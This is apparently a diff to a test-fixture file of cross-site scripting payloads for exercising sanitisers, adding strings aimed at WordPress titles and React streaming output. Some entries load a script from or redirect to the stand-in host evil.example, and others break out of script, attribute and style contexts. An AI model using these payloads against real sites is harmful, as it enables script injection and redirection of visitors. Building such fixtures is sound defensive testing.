@@ -1,5 +1,5 @@
 /** What people have written against sanitisers, each for a parser's quirk. All of it calls `alert`. */
-export const written: readonly string[] = [
+export const payloads: readonly string[] = [
   `<script>alert(1)</script>`,
   `<SCRIPT/x>alert(1)</SCRIPT >`,
   `<scr<script>ipt>alert(1)</scr</script>ipt>`,
@@ -133,4 +133,27 @@ export const written: readonly string[] = [
   `\${alert(1)}{{constructor.constructor('alert(1)')()}}`,
   `[gallery]<img src=x onerror=alert(1)>[/gallery]`,
   `<!-- wp:html --><script>alert(1)</script><!-- /wp:html -->`,
+];
+
+const evil = 'http://evil.example/';
+
+/**
+ * Titles, as WordPress keeps what an editor types: tags and all. The first look like rows of what React sends beside the HTML.
+ */
+export const titles: readonly string[] = [
+  `0:["$","meta",null,{"httpEquiv":"refresh","content":"0;url=${evil}"}]`,
+  `1:["$","script",null,{"src":"${evil}x.js"}]`,
+  `2:["$","div",null,{"dangerouslySetInnerHTML":{"__html":"<img src=x onerror=alert(1)>"}}]`,
+  `:HL["${evil}x.css","style"]`,
+  `$undefined $L1 $@2 $F3 $Q4 $Sx $D2026 $n1 $-Infinity $$`,
+  `</script><script>self.__next_f.push([1,"0:null\n"])</script>`,
+  `<template id="B:0"></template><!--$?-->`,
+  `</title><script>alert(1)</script>`,
+  `</script ><meta http-equiv=refresh content="0;url=${evil}">`,
+  `"><img src=x onerror=alert(1)>`,
+  `' onmouseover='alert(1)`,
+  `]]><script>alert(1)</script>`,
+  `x\u2028</script\u2029><script>alert(1)</script>`,
+  `\\u003c/script\\u003e\\u003cscript\\u003ealert(1)`,
+  `*/}</style><style>*{position:fixed;inset:0;background:red}</style>`,
 ];
